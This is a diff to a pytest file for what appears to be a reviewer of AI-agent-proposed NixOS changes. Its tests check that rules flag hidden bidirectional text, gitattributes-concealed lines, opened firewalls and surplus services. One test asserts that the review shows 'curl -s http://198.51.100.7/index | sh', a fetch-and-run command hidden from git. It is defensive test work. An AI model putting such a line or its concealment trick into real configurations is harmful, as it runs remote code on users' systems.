@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import asyncio
 import itertools
+import subprocess
 from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
@@ -166,50 +168,88 @@ async def newest_id(hive: LocalHive) -> int:
     return max(one.id for one in await hive.proposals(decided=True))
 
 
-FOUND: tuple[tuple[Draft, set[str], set[str]], ...] = (
-    (drafts.SEARCH, set(), set()),
-    (drafts.FISHY, {"hidden-text", "hidden-message"}, {"run-downloaded"}),
-    (drafts.OPEN, {"nix-trust"}, {"firewall"}),
-    (drafts.INPUT, {"flake-input", "flake-changed", "lock-input"}, set()),
-)
+@dataclass(frozen=True)
+class Kind:
+    """A kind of change that the demo shows: the rules above info that find it, and what its effect is.
+
+    `changed` is whether the agent would have another system, `units` are those that are added, `failure` what is said
+    of one that fails.
+    """
+
+    draft: Draft
+    rules: frozenset[str]
+    state: EffectState = EffectState.KNOWN
+    changed: bool | None = True
+    units: tuple[str, ...] = ()
+    surplus: tuple[str, ...] = ()
+    failure: str = ""
 
 
-async def test_what_rules_find_in_a_draft_is_what_it_is_there_to_show(theatre: Theatre) -> None:
-    for draft, critical, high in FOUND:
-        one = await theatre.proposed(draft)
-        found = (await theatre.hive.findings(one.id)).findings
-        assert critical | high <= {finding.rule for finding in found}, draft
-        serious = {finding.rule for finding in found if finding.severity in (Severity.CRITICAL, Severity.HIGH)}
-        assert bool(serious) is (draft is not drafts.SEARCH)
-        await theatre.hive.withdraw(one.id)
+KINDS = {
+    "harmless": Kind(drafts.SEARCH, frozenset()),
+    "a new flake input": Kind(
+        drafts.INPUT,
+        frozenset({"flake-input", "flake-changed", "lock-input"}),
+        state=EffectState.FAILED,
+        changed=None,
+        failure="helpers",
+    ),
+    "a line behind gitattributes": Kind(
+        drafts.ATTRIBUTES,
+        frozenset({"git-attributes", "run-downloaded", "new-service", "service-command"}),
+        units=("index.service",),
+    ),
+    "bidirectional characters": Kind(
+        drafts.FISHY,
+        frozenset({"hidden-text", "hidden-message", "run-downloaded", "new-service", "service-command"}),
+        units=("tidy.service",),
+    ),
+    "an opened firewall": Kind(drafts.OPEN, frozenset({"nix-trust", "firewall"})),
+    "no effect": Kind(drafts.REMARK, frozenset(), changed=False),
+    "more than was intended": Kind(
+        drafts.SURPLUS,
+        frozenset({"intent-surplus", "new-service", "service-command"}),
+        units=("tracker.service",),
+        surplus=("packages curl", "units tracker.service"),
+    ),
+    "an evaluation that fails": Kind(
+        drafts.TYPO, frozenset(), state=EffectState.FAILED, changed=None, failure="the nearest is ripgrep"
+    ),
+    "a build that fails": Kind(drafts.FAILING, frozenset(), state=EffectState.FAILED, failure="a link leads nowhere"),
+}
 
 
-EFFECTS = (
-    (drafts.REMARK, EffectState.KNOWN, False, ()),
-    (drafts.SURPLUS, EffectState.KNOWN, True, ("packages curl", "units tracker.service")),
-    (drafts.TYPO, EffectState.FAILED, None, ()),
-    (drafts.FAILING, EffectState.FAILED, True, ()),
-)
-
-
-@pytest.mark.parametrize(
-    ("draft", "state", "changed", "surplus"), EFFECTS, ids=("remark", "surplus", "typo", "failing")
-)
-async def test_a_preview_tells_what_each_draft_would_do(
-    theatre: Theatre, draft: Draft, state: EffectState, changed: bool | None, surplus: tuple[str, ...]
-) -> None:
-    one = await theatre.proposed(draft)
+@pytest.mark.parametrize("name", KINDS)
+async def test_each_kind_of_change_is_told_by_its_findings_and_its_effect(theatre: Theatre, name: str) -> None:
+    kind = KINDS[name]
+    assert kind.draft in DRAFTS
+    one = await theatre.proposed(kind.draft)
     await ended(theatre.hive, await theatre.hive.preview(one.id))
     effect = await theatre.hive.effect(one.id)
-    if draft is drafts.FAILING and effect.unknown:
+    if kind is KINDS["a build that fails"] and effect.unknown:
         pytest.skip(effect.unknown[0].why)
-    assert (effect.state, effect.changed) == (state, changed)
-    assert (effect.intent.surplus if effect.intent else ()) == surplus
-    if effect.failure is not None:
-        told = " ".join([*effect.failure.lines, effect.failure.hint or ""])
-        assert "the nearest is ripgrep" in told if draft is drafts.TYPO else "a link leads nowhere" in told
-    if surplus:
-        found = (await theatre.hive.findings(one.id)).findings
-        assert [finding.text for finding in found if finding.rule == "intent-surplus"] == [
-            f"surplus {text}" for text in surplus
-        ]
+    found = (await theatre.hive.findings(one.id)).findings
+    assert {finding.rule for finding in found if finding.severity is not Severity.INFO} == kind.rules
+    assert (effect.state, effect.changed, effect.units.added) == (kind.state, kind.changed, kind.units)
+    assert (effect.intent.surplus if effect.intent else ()) == kind.surplus
+    told = " ".join([*effect.failure.lines, effect.failure.hint or ""]) if effect.failure else ""
+    assert kind.failure in told
+    assert bool(told) is bool(kind.failure)
+
+
+async def test_the_harmless_one_adds_one_package_as_it_says(theatre: Theatre) -> None:
+    one = await theatre.proposed(drafts.SEARCH)
+    await ended(theatre.hive, await theatre.hive.preview(one.id))
+    effect = await theatre.hive.effect(one.id)
+    assert [package.name for package in effect.packages.added] == ["ripgrep"]
+    assert [option.option for option in effect.options] == ["environment.systemPackages"]
+    assert effect.intent is not None
+    assert effect.intent.match == ("packages ripgrep",)
+
+
+async def test_the_one_with_attributes_hides_its_line_from_git_and_not_from_the_review(theatre: Theatre) -> None:
+    one = await theatre.proposed(drafts.ATTRIBUTES)
+    repo = theatre.hive.host.paths.proposed(one.agent)
+    with_git = ["git", "-C", str(repo), "show", "HEAD"]
+    assert b"198.51.100.7" not in await asyncio.to_thread(subprocess.check_output, with_git)
+    assert "curl -s http://198.51.100.7/index | sh" in await theatre.difference(one)
